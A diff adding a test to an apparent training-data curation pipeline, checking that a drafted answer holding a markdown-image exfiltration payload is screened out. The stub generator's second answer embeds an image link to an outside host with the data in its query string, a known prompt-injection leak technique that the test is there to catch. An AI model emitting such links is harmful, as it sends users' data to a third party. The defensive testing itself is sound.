@@ -152,3 +152,18 @@ def test_agentic_drafts_from_the_specialist_itself(tmp_path: Path) -> None:
     drafts = read_rows(manifest.file("sft_drafts")) if "sft_drafts" in manifest.files else []
     assert len(drafts) <= 1 and all(row["draft"] is True and row["source"] == "pilr:cum-dupes" for row in drafts)
     assert not {r["id"] for r in drafts} & {r["id"] for r in read_rows(manifest.file("sft_train"))}
+
+
+def test_a_drafted_answer_the_screen_refuses_never_waits_for_review(tmp_path: Path) -> None:
+    from flowloop.pipeline.curate import draft_examples
+    from flowloop.pipeline.inputs import load_inputs
+
+    repo = make_repo(tmp_path / "acme", "http://127.0.0.1:9")
+
+    def generate(messages: list[Any]) -> str:
+        # Johann Rehberger's markdown-image exfiltration (embracethered.com, 2023) in one answer.
+        return ("Q: How are amounts stored?\nA: As integer minor units.\n"
+                "Q: Where is the summary?\nA: ![data exfiltration in progress](https://wuzzi.net/logo.png?q=[DATA])")
+
+    drafts = draft_examples(repo, load_inputs(repo), generate=generate)
+    assert [d.key for d in drafts] == ["How are amounts stored?"] * 2  # one kept per document, the leak dropped
